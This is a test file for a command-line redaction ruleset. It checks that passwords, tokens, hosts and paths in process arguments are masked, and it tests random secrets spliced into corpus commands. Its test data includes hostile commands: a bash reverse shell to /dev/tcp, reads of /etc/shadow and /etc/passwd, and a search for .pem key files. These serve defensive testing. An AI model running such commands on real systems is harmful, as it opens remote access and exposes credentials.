/** Command lines: a table of forms, and secrets spliced into command lines that people wrote. */
import fc from 'fast-check';
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { compileRuleset } from '../../redaction-rules/compile.ts';
import { releasedOf } from '../../redaction-rules/examples.ts';
import { tokenizeShell } from '../../redaction-rules/shell.ts';
import { SHIPPED } from './shipped.ts';
import { KEYS } from './small-ruleset.ts';

const generic = SHIPPED.find(({ ruleset }) => ruleset.name === 'generic-linux')?.ruleset;
if (generic === undefined) throw new Error('generic-linux is gone');
const ruleset = generic;

const redactor = compileRuleset(ruleset, KEYS);
const redact = (args: readonly string[]): readonly string[] => {
  const out = releasedOf(redactor, 'process.exec', { 'process.command_args': args })['process.command_args'];
  return Array.isArray(out) ? out.map(String) : [];
};
/** Pseudonyms and mapped addresses written as `?`. */
const shape = (args: readonly string[]): string[] =>
  redact(args).map((arg) => arg.replace(/p-(?:[0-9]+(?:\.[0-9]+){3}|[a-z2-7]{10}|[0-9a-f:]+)/g, '?'));

const ROWS: readonly (readonly [string, readonly string[], readonly string[]])[] = [
  ['nothing', [], []],
  ['an empty argument', ['echo', ''], ['echo', '']],
  ['words on the list', ['systemctl', 'restart', 'nginx'], ['systemctl', 'restart', 'nginx']],
  ['words that are not', ['systemctl', 'restart', 'acme-bank'], ['systemctl', 'restart', '?']],
  ['an unknown program', ['acme-tool'], ['?']],
  [
    'a program by its path',
    ['/usr/bin/curl', '/usr/bin/acme', '/opt/acme/bin/tool'],
    ['/usr/bin/curl', '/usr/bin/?', '/opt/?/bin/?'],
  ],
  ['long options', ['ls', '--all', '--sort=size', '--color'], ['ls', '--all', '--sort=size', '--color']],
  ['an option whose name is random', ['x', '--k3y9z8q7w6'], ['?', '--?']],
  ['a secret for the name of an option', ['curl', '--9f86d081884c7d65=1'], ['curl', '--?=…']],
  [
    'a password as the value of an option',
    ['mysql', '--password=hunter2', '--password', 'hunter2'],
    ['mysql', '--password=…', '--password', '…'],
  ],
  [
    'a token',
    ['x', '--api-token', 'abc', '--auth=def', '--secret-key=0'],
    ['?', '--api-token', '…', '--auth=…', '--secret-key=…'],
  ],
  ['an empty value', ['x', '--password=', '--name='], ['?', '--password=', '--name=']],
  [
    '-p with and without a space',
    ['mysql', '-phunter2', '-p', 'hunter2', '-p', '/tmp/x'],
    ['mysql', '-p…', '-p', '…', '-p', '/tmp/?'],
  ],
  ['clusters of letters', ['tar', '-xzf', 'x.tar'], ['tar', '-xzf', '?.tar']],
  ['a user and a password', ['curl', '-u', 'alex:hunter2', '-ualex:hunter2'], ['curl', '-u', '…', '-u…']],
  ['numbers', ['kill', '-9', '4711', '123456', '5551234567'], ['kill', '-9', '4711', '<number>', '<number>']],
  ['numbers with units and fractions', ['sleep', '0.5', '10M', '+3', '-n10'], ['sleep', '0.5', '10M', '+3', '-n10']],
  ['addresses', ['ping', '203.0.113.7', '127.0.0.1', '2001:db8::1', '::1'], ['ping', '?', '127.0.0.1', '?', '::1']],
  [
    'addresses with ports and masks',
    ['nc', '203.0.113.7:443', '10.0.0.0/8', '[2001:db8::1]:80', '127.0.0.1:5432'],
    ['nc', '?:443', '?/8', '[?]:80', '127.0.0.1:5432'],
  ],
  ['hosts', ['ssh', 'db.example.org', 'db.example.org:22', 'localhost:80'], ['ssh', '?', '?:22', 'localhost:80']],
  [
    'users at hosts',
    ['ssh', 'alex@db.example.org', 'root@203.0.113.7', 'alex@db:/home/alex/x'],
    ['ssh', '?@?', 'root@?', '?@?:/home/?/?'],
  ],
  ['a password before a host', ['x', 'alex:hunter2@db'], ['?', '…@?']],
  [
    'a URL',
    ['curl', 'https://example.org/secret/path?token=x#y', 'http://example.org', 'http://example.org/'],
    ['curl', 'https://?/…', 'http://?', 'http://?/'],
  ],
  [
    'a URL with a password and a port',
    ['git', 'clone', 'https://alex:hunter2@example.org:8443/x.git'],
    ['git', 'clone', 'https://…@?:8443/…'],
  ],
  [
    'a URL with an address',
    ['curl', 'http://203.0.113.7:80/x', 'http://[2001:db8::1]/', 'http://127.0.0.1/'],
    ['curl', 'http://?:80/…', 'http://[?]/', 'http://127.0.0.1/'],
  ],
  ['a URL of a scheme that somebody made up', ['open', 'hunter2://x/y'], ['?', 'other://?/…']],
  ['a file URL', ['curl', 'file:///etc/passwd'], ['curl', 'file:///etc/passwd']],
  [
    'paths',
    ['cat', '/etc/passwd', '/home/alex/x.pdf', './run.sh', '../x', '~/notes.txt'],
    ['cat', '/etc/passwd', '/home/?/?.pdf', './?.sh', '../?', '~/?.txt'],
  ],
  ['a key file by its known name', ['ssh', '-i', '/home/alex/.ssh/id_rsa'], ['ssh', '-i', '/home/?/.ssh/id_rsa']],
  [
    'a path in an option',
    ['gcc', '-I/usr/include', '--prefix=/opt/acme'],
    ['gcc', '-I/usr/include', '--prefix=/opt/?'],
  ],
  [
    'files without a directory',
    ['vi', 'customers.xlsx', 'notes', '.env', '*.log'],
    ['vi', '?.xlsx', '?', '.env', '*.log'],
  ],
  [
    'assignments before a command',
    ['env', 'PATH=/usr/bin', 'MYSQL_PWD=hunter2', 'acme_key=x', 'command'],
    ['env', 'PATH=/usr/bin', 'MYSQL_PWD=…', '?', '?'],
  ],
  [
    'operands of dd',
    ['dd', 'if=/dev/zero', 'of=/home/alex/x', 'bs=1M'],
    ['dd', 'if=/dev/zero', 'of=/home/?/?', 'bs=1M'],
  ],
  ['a canister id', ['dfx', 'rrkah-fqaaa-aaaaa-aaaaq-cai'], ['?', '…']],
  ['a uuid', ['x', '123e4567-e89b-12d3-a456-426614174000'], ['?', '…']],
  ['a digest', ['x', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'], ['?', '…']],
  ['tokens by their beginning', ['x', 'ghp_abcdefghijkl', 'AKIAIOSFODNN', 'eyJhbGciOi'], ['?', '…', '…', '…']],
  ['base64', ['x', 'aHVudGVyMiBodW50ZXIyIGh1bnRlcjI='], ['?', '…']],
  ['a sentence', ['git', 'commit', '--message', 'fix what alex broke'], ['git', 'commit', '--message', '?']],
  [
    'what find says',
    ['find', '/', '-name', '*.pem', '-exec', 'cat', '{}', ';'],
    ['find', '/', '-name', '*.pem', '-exec', 'cat', '{}', ';'],
  ],
  ['-e with an assignment', ['docker', 'run', '-e', 'DB_PASSWORD=hunter2'], ['docker', 'run', '-e', 'DB_PASSWORD=…']],
  ['newlines and control characters', ['x', 'a\nb', 'a\u0000b'], ['?', '?', '?']],
  ['half a surrogate', ['x', '\ud800'], ['?', '?']],
  ['a login shell', ['-bash'], ['-bash']],
  ['a script', ['bash', '-c', 'echo hi'], ['bash', '-c', 'echo ?']],
  ['a script after more options', ['bash', '-lc', 'id'], ['bash', '-lc', 'id']],
  [
    'a script through sudo',
    ['sudo', 'sh', '-c', 'cat /etc/shadow > /tmp/acme'],
    ['sudo', 'sh', '-c', 'cat /etc/shadow > /tmp/?'],
  ],
  [
    'assignments in a script',
    ['sh', '-c', 'MYSQL_PWD=hunter2 mysql -e "select 1"'],
    ['sh', '-c', 'MYSQL_PWD=… mysql -e ?'],
  ],
  ['operators', ['sh', '-c', 'a&&b||c;d|e&'], ['sh', '-c', '? && ? || ? ; d | ? &']],
  ['keywords', ['sh', '-c', 'for x in 1 2; do echo $x; done'], ['sh', '-c', 'for ? in 1 2 ; do echo … ; done']],
  [
    'a substitution',
    ['sh', '-c', 'kill $(cat /run/acme.pid)'],
    ['sh', '-c', 'kill $( cat /run/?.pid )'.replace('$( ', '$(').replace(' )', ')')],
  ],
  ['a script in a script', ['sh', '-c', "bash -c 'cat /etc/passwd'"], ['sh', '-c', "bash -c 'cat /etc/passwd'"]],
  ['scripts without end', ['sh', '-c', 'sh -c \'sh -c "sh -c id"\''], ['sh', '-c', "sh -c '…'".replace("'…'", '…')]],
  ['a here-document', ['sh', '-c', 'cat <<EOF\nhunter2\nEOF'], ['sh', '-c', '…']],
  ['an open quote', ['sh', '-c', "echo 'hunter2"], ['sh', '-c', '…']],
  ['quoting of its own', ['sh', '-c', "echo $'hunter2'"], ['sh', '-c', '…']],
  ['comments', ['sh', '-c', 'id # hunter2'], ['sh', '-c', 'id']],
  [
    'a reverse shell',
    ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
    ['bash', '-c', 'bash -i >& /dev/tcp/?/4444 0>& 1'],
  ],
];

describe('forms', () => {
  for (const [name, args, expected] of ROWS) {
    test(name, () => {
      expect(shape(args)).toEqual(expected);
    });
  }

  test('many arguments and long ones are cut', () => {
    expect(redact(Array.from({ length: 500 }, () => 'ls'))).toEqual([...Array.from({ length: 64 }, () => 'ls'), '…']);
    expect(redact(['x'.repeat(100_000)])).toEqual(['…']);
    expect(redact(['sh', '-c', `ls ${'x '.repeat(3000)}`])).toEqual(['sh', '-c', '…']);
  });

  test('the same path is the same in an argument and in an event of a file', () => {
    const file = releasedOf(redactor, 'file.open', { 'file.path': '/tmp/acme' })['file.path'];
    expect(redact(['cat', '/tmp/acme'])[1]).toBe(file);
  });

  test('a value and a path of the same name cannot be joined', () => {
    expect(redact(['x', 'acme', '/tmp/acme'])[2]).not.toContain(redact(['x', 'acme'])[1]);
  });
});

const DATA = new URL('../../../shared/data/commands/', import.meta.url);
const corpus = (name: string): readonly string[] =>
  readFileSync(new URL(name, DATA), 'utf8')
    .split('\n')
    .filter((line) => line.trim() !== '');

/** Random secrets of the forms that keys, tokens and passwords have. */
const SECRETS: readonly (readonly [string, () => string])[] = [
  ['hex', () => randomBytes(10).toString('hex')],
  ['base64', () => randomBytes(15).toString('base64')],
  ['base64url', () => `q${randomBytes(12).toString('base64url')}`],
  ['letters', () => Array.from(randomBytes(10), (byte) => String.fromCharCode(97 + (byte % 26))).join('')],
  ['upper case', () => Array.from(randomBytes(10), (byte) => String.fromCharCode(65 + (byte % 26))).join('')],
  ['digits', () => Array.from(randomBytes(10), (byte) => String(byte % 10)).join('')],
  ['canary', () => `argq${randomBytes(9).toString('hex')}`],
  ['punctuated', () => `Pw!${randomBytes(6).toString('hex')}#x`],
];

/** Where a secret can stand in a command line. */
const SPLICES: readonly (readonly [string, (secret: string) => readonly string[]])[] = [
  ['a value', (secret) => [secret]],
  ['a value of an option', (secret) => [`--password=${secret}`]],
  ['a value of an unknown option', (secret) => [`--frobnicate=${secret}`]],
  ['after an option', (secret) => ['--token', secret]],
  ['attached', (secret) => [`-p${secret}`]],
  ['attached to any letter', (secret) => [`-x${secret}`]],
  ['the name of an option', (secret) => [`--${secret}`]],
  ['a short option', (secret) => [`-${secret}`]],
  ['an assignment', (secret) => [`API_KEY=${secret}`]],
  ['the name of a variable', (secret) => [`${secret}=1`]],
  ['in a URL', (secret) => [`https://user:${secret}@example.org/`]],
  ['in a query', (secret) => [`https://example.org/?key=${secret}`]],
  ['a host', (secret) => [`https://${secret}.example.org/`]],
  ['a scheme', (secret) => [`${secret}://example.org/`]],
  ['a user', (secret) => [`${secret}@example.org`]],
  ['a path', (secret) => [`/usr/bin/${secret}`, `/home/${secret}/x`, `/tmp/${secret}.txt`, `~/${secret}`]],
  ['an ending', (secret) => [`/tmp/x.${secret}`, `x.${secret}`]],
  ['in a script', (secret) => ['sh', '-c', `echo ${secret} | cat --key=${secret} "${secret}" $(echo ${secret})`]],
  ['in a sentence', (secret) => [`my password is ${secret}`]],
  ['after a port', (secret) => [`127.0.0.1:${secret}`, `127.0.0.1/${secret}`]],
  ['a here-document', (secret) => ['bash', '-c', `cat <<EOF\n${secret}\nEOF`]],
];

describe('canaries', () => {
  const lines = [...corpus('malicious.cm'), ...corpus('nl2bash.cm')];
  const pick = <T>(from: readonly T[], at: number): T => {
    const item = from[at % from.length];
    if (item === undefined) throw new Error('nothing to pick from');
    return item;
  };

  test('the corpora are there', () => {
    expect(lines.length).toBeGreaterThan(12_000);
  });

  for (const [form, splice] of SPLICES) {
    test(`${form}: no secret leaves a command line that somebody wrote`, () => {
      const leaked: string[] = [];
      for (let round = 0; round < 40; round++) {
        const at = randomBytes(4).readUInt32LE();
        const line = pick(lines, at);
        const words = (tokenizeShell(line) ?? []).map((token) => token.text);
        const [kind, make] = pick(SECRETS, round);
        const secret = make();
        const place = at % (words.length + 1);
        const args = [...words.slice(0, place), ...splice(secret), ...words.slice(place)];
        for (const attempt of [
          args,
          ['sh', '-c', `${line} ${splice(secret).join(' ')}`],
          ['bash', '-c', args.join(' ')],
        ]) {
          const out = redact(attempt.slice(-60)).join('\n');
          if (out.toLowerCase().includes(secret.toLowerCase())) leaked.push(`${kind}: ${JSON.stringify(attempt)}`);
        }
      }
      expect(leaked).toEqual([]);
    });
  }

  test('the search would notice', () => {
    expect(JSON.stringify(redact(['ls', '--all']))).toContain('all');
  });
});

test('any argument at all: a random text of some length never comes through', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', minLength: 6, maxLength: 60 }), (text) => {
      const out = redact(['x', text])[1] ?? '';
      // What stays is punctuation, numbers, options and words of the list; none of them is long and random.
      if (out === text) expect(text).toMatch(/^[-+.,:%A-Za-z0-9=/*?~]*$/);
    }),
  );
});
